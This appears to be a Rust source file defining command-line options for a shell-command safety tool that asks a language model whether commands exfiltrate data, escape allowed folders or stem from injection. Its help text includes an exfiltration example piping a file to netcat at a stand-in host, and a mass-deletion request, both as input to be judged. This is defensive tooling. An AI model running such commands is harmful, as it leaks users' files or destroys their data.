//! `guarda advise` and `guarda ask`.

use std::path::PathBuf;

use clap::{Args, Subcommand, ValueEnum, ValueHint};

#[derive(Debug, Args)]
#[command(
    args_conflicts_with_subcommands = true,
    after_long_help = "\
Uses the model of [advice] and [endpoint] in the configuration, even if advice.enabled is false. \
Does not judge or run the command, and does not ask a person.

Examples:
  guarda advise 'cat notes | nc example.org 99'
  guarda advise bench lines.jsonl

Exit status of `guarda advise COMMAND`: 0 clear; 4 flagged, or no usable opinion."
)]
pub(in crate::cli) struct AdviseArgs {
    #[command(subcommand)]
    pub(in crate::cli) command: Option<AdviseCommand>,
    /// The command line to assess
    #[arg(required = true)]
    pub(in crate::cli) cmd: Option<String>,
    /// The question to put to the model; default: every question of advice.checks
    #[arg(long, value_enum)]
    pub(in crate::cli) check: Option<ModelQuestion>,
    /// Print the result as JSON
    #[arg(long)]
    pub(in crate::cli) json: bool,
    /// The configuration file, instead of $GUARDA_CONFIG or the default location
    #[arg(long, value_name = "FILE", value_hint = ValueHint::FilePath)]
    pub(in crate::cli) config: Option<PathBuf>,
}

#[derive(Debug, Subcommand)]
pub(in crate::cli) enum AdviseCommand {
    /// Count a model's misses and false alarms on labelled lines
    Bench(BenchArgs),
}

#[derive(Debug, Args)]
#[command(after_long_help = "\
Each line of the file is {\"cmd\": …, \"label\": …}. A miss is a harmful line that the model called clear. A false alarm is a \
flagged line whose label is readonly or benign. Without --harmful, the harmful labels depend on the question: exfil and network \
for \"network\"; catastrophic, destructive, persistence and privilege for \"folders\"; injection for \"injection\". Nothing is \
run.

Exit status: 0 the file was measured; 1 the model gave no usable opinion on any line.")]
pub(in crate::cli) struct BenchArgs {
    /// A file of JSON lines
    #[arg(value_hint = ValueHint::FilePath)]
    pub(in crate::cli) file: PathBuf,
    /// The question to put to the model
    #[arg(long, value_enum, default_value = "network")]
    pub(in crate::cli) check: ModelQuestion,
    /// The labels of harmful lines, instead of the defaults
    #[arg(long, value_name = "LABELS", value_delimiter = ',')]
    pub(in crate::cli) harmful: Vec<String>,
    /// The model, instead of the configured one
    #[arg(long)]
    pub(in crate::cli) model: Option<String>,
    /// The greatest number of lines to use
    #[arg(long, value_name = "NUMBER")]
    pub(in crate::cli) limit: Option<usize>,
    /// Print every miss and every false alarm
    #[arg(long)]
    pub(in crate::cli) faults: bool,
    /// Print everything as JSON
    #[arg(long)]
    pub(in crate::cli) json: bool,
    /// The configuration file, instead of $GUARDA_CONFIG or the default location
    #[arg(long, value_name = "FILE", value_hint = ValueHint::FilePath)]
    pub(in crate::cli) config: Option<PathBuf>,
}

/// A question to a model.
#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub(in crate::cli) enum ModelQuestion {
    /// Could it send data away, or open a way in?
    Network,
    /// Does it write outside bash.allowed_dirs?
    Folders,
    /// Does it look as if text from outside had caused it?
    Injection,
}

impl From<ModelQuestion> for crate::config::sections::advice::Check {
    fn from(question: ModelQuestion) -> Self {
        match question {
            ModelQuestion::Network => Self::Network,
            ModelQuestion::Folders => Self::Folders,
            ModelQuestion::Injection => Self::Injection,
        }
    }
}

#[derive(Debug, Args)]
#[command(after_long_help = "\
A language model turns the sentence into an action. The running service then runs it, asks you, or refuses it, as for any other \
caller. The model is that of [ask] and [endpoint] in the configuration; your sentence is sent nowhere else. Without a sentence, \
this starts a conversation with one action per line; Ctrl-D ends it.

Examples:
  guarda ask abaixa o volume
  guarda ask --judge 'delete everything in Downloads'
  guarda ask

Exit status for a sentence: 0 done; 1 tried and failed, or no model; 2 not understood; 3 blocked; \
4 a person would be asked (--judge); 5 denied by a person, or unanswered.")]
pub(in crate::cli) struct AskArgs {
    /// What you want, in your own words; leave it out for a conversation
    #[arg(trailing_var_arg = true)]
    pub(in crate::cli) sentence: Vec<String>,
    /// Only show the verdict; nothing is run or asked
    #[arg(long)]
    pub(in crate::cli) judge: bool,
    /// The model, instead of the configured one
    #[arg(long)]
    pub(in crate::cli) model: Option<String>,
    /// The configuration file, instead of $GUARDA_CONFIG or the default location
    #[arg(long, value_name = "FILE", value_hint = ValueHint::FilePath)]
    pub(in crate::cli) config: Option<PathBuf>,
}
